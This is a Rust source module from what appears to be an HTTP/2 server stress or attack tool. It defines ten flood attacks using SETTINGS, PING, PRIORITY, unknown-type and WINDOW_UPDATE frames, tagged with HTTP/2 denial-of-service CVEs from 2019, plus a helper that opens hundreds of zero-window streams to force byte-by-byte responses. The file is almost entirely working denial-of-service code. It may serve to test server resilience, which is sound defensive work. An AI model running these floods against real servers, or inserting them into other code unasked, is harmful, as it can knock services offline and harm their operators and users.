//! Frames that are cheap to send and require a response, or change the server's state.

use super::attack::{Answer, Attack};
use super::frames::{Frames, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, PING, PRIORITY, WIDEST, stream};

pub(super) const ATTACKS: [Attack; 10] = [
    // CVE-2019-9515
    Attack::flood("settings", |frames, _| frames.settings(&[])),
    Attack::flood("settings_table_size", |frames, iteration| {
        frames.settings(&[(HEADER_TABLE_SIZE, if iteration.is_multiple_of(2) { 0 } else { u32::MAX })]);
    }),
    // Each changes the window of every stream. Paced, since a flood of them closes the connection.
    Attack::flood("settings_windows", |frames, iteration| {
        frames.settings(&[(INITIAL_WINDOW_SIZE, 1 - iteration % 2)]);
    })
    .with_opening(|frames| wait_for_windows(frames, 32))
    .with_steps(QUIET, Answer::Ack),
    // CVE-2019-9512
    Attack::flood("ping", |frames, _| frames.frame(PING, 0, 0, b"anybody?")),
    Attack::flood("ping_in_step", |frames, _| frames.frame(PING, 0, 0, b"anybody?"))
        .with_steps(QUIET, Answer::Ack),
    // CVE-2019-9513
    Attack::flood("priority", |frames, iteration| {
        frames.frame(PRIORITY, 0, stream(iteration), &[0, 0, 0, 0, 0]);
    }),
    Attack::flood("unknown_frames", |frames, _| frames.frame(0x77, 0, 0, b"unknown")),
    Attack::flood("window_updates", |frames, _| frames.window_update(0, 1)).with_bounded_outcome(),
    Attack::flood("window_updates_closed_stream", |frames, _| frames.window_update(1, 1))
        .with_opening(|frames| frames.call(1, super::frames::ECHO))
        .with_bounded_outcome(),
    // CVE-2019-9511: responses that can only be sent byte by byte.
    Attack::flood("window_dribble", |frames, iteration| frames.window_update(stream(iteration % STREAMS), 1))
        .with_opening(|frames| wait_for_windows(frames, 8_000))
        .with_bounded_outcome(),
];

/// Fewer than a server rejects in one batch.
const QUIET: u32 = 150;

/// Number of streams with unsent responses.
const STREAMS: u32 = 600;

/// Makes many calls whose responses of this length cannot be sent.
fn wait_for_windows(frames: &mut Frames, length: usize) {
    frames.settings(&[(INITIAL_WINDOW_SIZE, 0)]);
    frames.window_update(0, WIDEST - 65_535);
    (0..STREAMS).for_each(|iteration| frames.large_call(stream(iteration), length));
}
